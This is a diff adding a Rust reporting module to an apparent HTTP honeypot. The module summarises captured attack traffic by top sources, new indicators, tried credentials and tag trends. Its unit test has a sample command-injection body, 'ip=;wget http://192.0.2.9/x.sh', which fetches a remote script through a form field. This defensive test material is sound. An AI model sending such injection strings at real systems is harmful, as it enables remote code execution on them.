@@ -0,0 +1,418 @@
+//! Summary reports of stored traffic: the busiest sources, indicators not
+//! seen before, credentials tried, and how often each tag was seen against
+//! the period before. Reports are read from HAR archives or pcap captures,
+//! rendered as Markdown or HTML, and can be written on a schedule.
+use std::{
+    collections::{BTreeMap, HashMap, HashSet},
+    net::IpAddr,
+    path::PathBuf,
+    time::Duration,
+};
+
+use chrono::{DateTime, Utc};
+use serde::Deserialize;
+use tokio::io::BufReader;
+
+use crate::{
+    classify::{self, Tag},
+    fetch::sha256_hex,
+    honeypot::shell,
+    http::request::{self, ParserConfig, Request},
+    prelude::*,
+    profile::{self, Activity},
+    replay,
+    util::escape_html,
+};
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct ReportConfig {
+    /// directory reports are written to
+    pub dir: PathBuf,
+    /// how often a report is written, each covering the period since the
+    /// last. Periods are aligned to the epoch, so daily reports cover a UTC
+    /// day.
+    pub every_secs: u64,
+    pub format: Format,
+    /// rows in each table
+    pub top: usize,
+}
+
+impl Default for ReportConfig {
+    fn default() -> Self {
+        Self {
+            dir: PathBuf::from("reports"),
+            every_secs: 24 * 60 * 60,
+            format: Format::default(),
+            top: 10,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Format {
+    #[default]
+    Markdown,
+    Html,
+}
+
+impl Format {
+    fn extension(&self) -> &'static str {
+        match self {
+            Format::Markdown => "md",
+            Format::Html => "html",
+        }
+    }
+}
+
+/// What was seen between since and until.
+#[derive(Debug, Clone)]
+pub struct Report {
+    pub since: DateTime<Utc>,
+    pub until: DateTime<Utc>,
+    requests: usize,
+    sources: HashMap<IpAddr, usize>,
+    iocs: BTreeMap<String, usize>,
+    // seen at any point before the period, so they aren't new
+    earlier_iocs: HashSet<String>,
+    credentials: BTreeMap<(String, String), usize>,
+    tags: BTreeMap<Tag, usize>,
+    // seen in the period of the same length before this one
+    earlier_tags: BTreeMap<Tag, usize>,
+}
+
+impl Report {
+    pub fn new(since: DateTime<Utc>, until: DateTime<Utc>) -> Self {
+        Self {
+            since,
+            until,
+            requests: 0,
+            sources: Default::default(),
+            iocs: Default::default(),
+            earlier_iocs: Default::default(),
+            credentials: Default::default(),
+            tags: Default::default(),
+            earlier_tags: Default::default(),
+        }
+    }
+
+    /// counts a request which arrived at at. Requests before the period
+    /// only count towards what's new and the trends.
+    pub fn add(&mut self, req: &Request, at: DateTime<Utc>) {
+        if at >= self.until {
+            return;
+        }
+        if at < self.since {
+            self.earlier_iocs.extend(iocs(req));
+            if at >= self.since - (self.until - self.since) {
+                for tag in classify::classify(req) {
+                    *self.earlier_tags.entry(tag).or_default() += 1;
+                }
+            }
+            return;
+        }
+
+        self.requests += 1;
+        *self.sources.entry(req.requester_ip()).or_default() += 1;
+        for ioc in iocs(req) {
+            *self.iocs.entry(ioc).or_default() += 1;
+        }
+        for credential in profile::credentials(req) {
+            *self.credentials.entry(credential).or_default() += 1;
+        }
+        for tag in classify::classify(req) {
+            *self.tags.entry(tag).or_default() += 1;
+        }
+    }
+
+    pub fn render(&self, format: Format, top: usize) -> String {
+        let sections = self.sections(top);
+        match format {
+            Format::Markdown => markdown(&self.summary(), &sections),
+            Format::Html => html(&self.summary(), &sections),
+        }
+    }
+
+    /// writes the report to a new file in the directory, named for the end
+    /// of its period.
+    pub fn write(&self, config: &ReportConfig) -> Result<PathBuf> {
+        let path = config.dir.join(format!(
+            "report-{}.{}",
+            self.until.format("%Y%m%dT%H%M%SZ"),
+            config.format.extension()
+        ));
+        std::fs::write(&path, self.render(config.format, config.top))?;
+        Ok(path)
+    }
+
+    fn summary(&self) -> String {
+        format!(
+            "{} to {}: {} requests from {} sources.",
+            self.since.format("%Y-%m-%d %H:%M UTC"),
+            self.until.format("%Y-%m-%d %H:%M UTC"),
+            self.requests,
+            self.sources.len()
+        )
+    }
+
+    fn sections(&self, top: usize) -> Vec<Section> {
+        let mut sources = self.sources.iter().collect::<Vec<_>>();
+        sources.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
+        let mut credentials = self.credentials.iter().collect::<Vec<_>>();
+        credentials.sort_by(|a, b| b.1.cmp(a.1));
+
+        let mut tags = self
+            .tags
+            .keys()
+            .chain(self.earlier_tags.keys())
+            .copied()
+            .collect::<Vec<_>>();
+        tags.sort();
+        tags.dedup();
+
+        vec![
+            Section {
+                title: "Top sources",
+                header: &["Source", "Requests"],
+                rows: sources
+                    .into_iter()
+                    .take(top)
+                    .map(|(ip, n)| vec![ip.to_string(), n.to_string()])
+                    .collect(),
+            },
+            Section {
+                title: "New indicators",
+                header: &["Indicator", "Requests"],
+                rows: self
+                    .iocs
+                    .iter()
+                    .filter(|(ioc, _)| !self.earlier_iocs.contains(*ioc))
+                    .map(|(ioc, n)| vec![ioc.clone(), n.to_string()])
+                    .collect(),
+            },
+            Section {
+                title: "Credentials",
+                header: &["User", "Secret", "Attempts"],
+                rows: credentials
+                    .into_iter()
+                    .take(top)
+                    .map(|((user, secret), n)| vec![user.clone(), secret.clone(), n.to_string()])
+                    .collect(),
+            },
+            Section {
+                title: "Tags",
+                header: &["Tag", "Requests", "Period before", "Change"],
+                rows: tags
+                    .into_iter()
+                    .map(|tag| {
+                        let now = self.tags.get(&tag).copied().unwrap_or_default();
+                        let before = self.earlier_tags.get(&tag).copied().unwrap_or_default();
+                        vec![
+                            tag.to_string(),
+                            now.to_string(),
+                            before.to_string(),
+                            format!("{:+}", now as i64 - before as i64),
+                        ]
+                    })
+                    .collect(),
+            },
+        ]
+    }
+}
+
+/// the indicators a request carried: URLs it tried to have downloaded,
+/// and hashes of what it uploaded.
+fn iocs(req: &Request) -> Vec<String> {
+    let mut iocs = vec![];
+    if let Some(injection) = shell::injection(req) {
+        iocs.extend(injection.download_urls());
+    }
+    if classify::classify(req).contains(&Tag::Xxe) {
+        iocs.extend(classify::external_references(&req.body));
+    }
+    if Activity::of(req).upload && !req.body.is_empty() {
+        iocs.push(format!("sha256:{}", sha256_hex(&req.body)));
+    }
+    iocs
+}
+
+struct Section {
+    title: &'static str,
+    header: &'static [&'static str],
+    rows: Vec<Vec<String>>,
+}
+
+fn markdown(summary: &str, sections: &[Section]) -> String {
+    // cells are attacker controlled, so can't be allowed to break the table
+    let cell = |s: &str| {
+        s.replace('\\', "\\\\")
+            .replace('|', "\\|")
+            .replace('`', "\\`")
+            .replace(['\r', '\n'], " ")
+    };
+
+    let mut out = format!("# httpot report\n\n{}\n", summary);
+    for section in sections {
+        out.push_str(&format!("\n## {}\n\n", section.title));
+        if section.rows.is_empty() {
+            out.push_str("None.\n");
+            continue;
+        }
+        out.push_str(&format!("| {} |\n", section.header.join(" | ")));
+        out.push_str(&format!("|{}\n", "---|".repeat(section.header.len())));
+        for row in &section.rows {
+            let row = row.iter().map(|c| cell(c)).collect::<Vec<_>>();
+            out.push_str(&format!("| {} |\n", row.join(" | ")));
+        }
+    }
+    out
+}
+
+fn html(summary: &str, sections: &[Section]) -> String {
+    let mut out = format!(
+        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>httpot report</title></head>\n<body>\n<h1>httpot report</h1>\n<p>{}</p>\n",
+        escape_html(summary)
+    );
+    for section in sections {
+        out.push_str(&format!("<h2>{}</h2>\n", section.title));
+        if section.rows.is_empty() {
+            out.push_str("<p>None.</p>\n");
+            continue;
+        }
+        out.push_str("<table>\n<tr>");
+        for name in section.header {
+            out.push_str(&format!("<th>{}</th>", name));
+        }
+        out.push_str("</tr>\n");
+        for row in &section.rows {
+            out.push_str("<tr>");
+            for cell in row {
+                out.push_str(&format!("<td>{}</td>", escape_html(cell)));
+            }
+            out.push_str("</tr>\n");
+        }
+        out.push_str("</table>\n");
+    }
+    out.push_str("</body></html>\n");
+    out
+}
+
+/// the archives and captures at the paths, reading directories' files.
+fn stored(paths: &[PathBuf]) -> Result<Vec<PathBuf>> {
+    let mut files = vec![];
+    for path in paths {
+        if !path.is_dir() {
+            files.push(path.clone());
+            continue;
+        }
+        for entry in std::fs::read_dir(path)? {
+            let path = entry?.path();
+            if matches!(
+                path.extension().and_then(|e| e.to_str()),
+                Some("har" | "pcap")
+            ) {
+                files.push(path);
+            }
+        }
+    }
+    files.sort();
+    Ok(files)
+}
+
+/// reports on the exchanges stored at the paths, which may be
+/// directories. Requests which don't parse, or have no time recorded, are
+/// skipped.
+pub async fn gather(
+    paths: &[PathBuf],
+    since: DateTime<Utc>,
+    until: DateTime<Utc>,
+    parser: &ParserConfig,
+) -> Result<Report> {
+    let mut report = Report::new(since, until);
+    for path in stored(paths)? {
+        for exchange in replay::load(&path)? {
+            let at = match exchange.at {
+                Some(at) => at,
+                None => continue,
+            };
+            let req = request::parse_request_with(
+                &exchange.remote,
+                &mut BufReader::new(&exchange.request[..]),
+                parser,
+            )
+            .await;
+            if let Ok(req) = req {
+                report.add(&req, at);
+            }
+        }
+    }
+    Ok(report)
+}
+
+/// writes a report at the end of every period, forever.
+pub async fn schedule(config: ReportConfig, paths: Vec<PathBuf>, parser: ParserConfig) {
+    let every = config.every_secs.max(60) as i64;
+    loop {
+        let now = Utc::now().timestamp();
+        let next = now - now.rem_euclid(every) + every;
+        tokio::time::sleep(Duration::from_secs((next - now) as u64)).await;
+
+        let until = Utc::now();
+        let since = until - chrono::Duration::seconds(every);
+        let written = match gather(&paths, since, until, &parser).await {
+            Ok(report) => report.write(&config),
+            Err(e) => Err(e),
+        };
+        match written {
+            Ok(path) => info!("wrote report {}", path.display()),
+            Err(e) => warn!("failed to write report: {}", e),
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::http::request::Method;
+
+    fn stub_request(ip: &str, path: &str, body: &str) -> Request {
+        let mut req = Request::stub(Method::POST, path, body);
+        req.headers
+            .add("Content-Type", "application/x-www-form-urlencoded");
+        req.remote_ip = format!("{}:62012", ip).parse().unwrap();
+        req
+    }
+
+    #[test]
+    fn test_report() {
+        let until: DateTime<Utc> = "2026-10-17T00:00:00Z".parse().unwrap();
+        let since = until - chrono::Duration::days(1);
+        let mut report = Report::new(since, until);
+
+        let login = stub_request("203.0.113.7", "/wp-login.php", "log=admin&pwd=a|b");
+        let shell = stub_request(
+            "198.51.100.1",
+            "/cgi-bin/ping",
+            "ip=;wget http://192.0.2.9/x.sh",
+        );
+        report.add(&login, since + chrono::Duration::hours(1));
+        report.add(&login, since + chrono::Duration::hours(2));
+        report.add(&shell, since - chrono::Duration::hours(1));
+        report.add(&shell, since + chrono::Duration::hours(3));
+        report.add(&shell, until);
+
+        assert_eq!(3, report.requests);
+        let md = report.render(Format::Markdown, 10);
+        assert!(md.contains("| 203.0.113.7 | 2 |"), "{}", md);
+        assert!(md.contains("| admin | a\\|b | 2 |"), "{}", md);
+        assert!(
+            md.contains("## New indicators\n\nNone."),
+            "previously seen indicator reported as new: {}",
+            md
+        );
+        let html = report.render(Format::Html, 1);
+        assert!(html.contains("<td>203.0.113.7</td>"), "{}", html);
+        assert!(!html.contains("198.51.100.1"), "top wasn't applied");
+    }
+}